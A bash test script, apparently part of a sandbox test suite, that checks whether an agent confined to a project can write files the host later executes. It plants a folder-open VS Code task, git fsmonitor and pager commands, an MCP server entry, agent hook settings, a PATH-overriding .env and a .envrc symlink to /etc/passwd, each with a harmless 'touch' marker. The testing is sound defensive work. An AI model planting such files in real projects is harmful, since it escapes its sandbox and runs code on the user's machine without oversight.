#!/bin/bash
# The agent's side of issue 10's leftover: protected paths that did not exist at launch cannot be
# bound, so write them; the host's git, editor or agent would run or trust them afterwards.
# Each line "@name ok|refused": ok means the write inside succeeded (expected here: the session's
# end must take the result out of the host's way).
r() { if "$@" >/dev/null 2>&1; then echo ok; else echo refused; fi; }
cd /project || exit 1
echo "@vscode_tasks $(r sh -c 'mkdir -p .vscode && printf "{\"tasks\":[{\"label\":\"x\",\"command\":\"touch /tmp/pwned\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}" > .vscode/tasks.json')"
echo "@git_commondir $(r sh -c 'mkdir -p /project/evil && printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" > /project/evil/config && printf "../evil\n" > .git/commondir')"
echo "@git_config_worktree $(r sh -c 'printf "[core]\n\tpager = touch /tmp/pwned\n" > .git/config.worktree')"
echo "@mcp_json $(r sh -c 'printf "{\"mcpServers\":{\"x\":{\"command\":\"touch\"}}}" > .mcp.json')"
echo "@claude_settings $(r sh -c 'mkdir -p .claude && printf "{\"hooks\":{}}" > .claude/settings.json')"
echo "@env_file $(r sh -c 'printf "PATH=/project/evil\n" > .env')"
# The next try: a symlink where the protected folder would be (pointing out of the project).
echo "@envrc_symlink $(r ln -s /etc/passwd .envrc)"
echo "@done"
